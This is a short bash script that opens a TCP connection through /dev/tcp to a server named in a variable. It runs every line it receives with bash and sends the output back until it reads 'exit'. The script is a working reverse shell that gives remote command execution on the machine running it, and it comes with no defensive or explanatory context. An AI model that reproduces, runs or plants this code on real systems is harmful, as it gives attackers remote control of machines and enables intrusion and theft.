# what: a loop over lines of /dev/tcp, each of them a command
# server: shell
echo begun
exec 5<> /dev/tcp/${SERVER/:/\/}
while read -r line <&5; do
    [ "$line" = exit ] && break
    bash -c "$line" >&5 2>&5
done
echo done
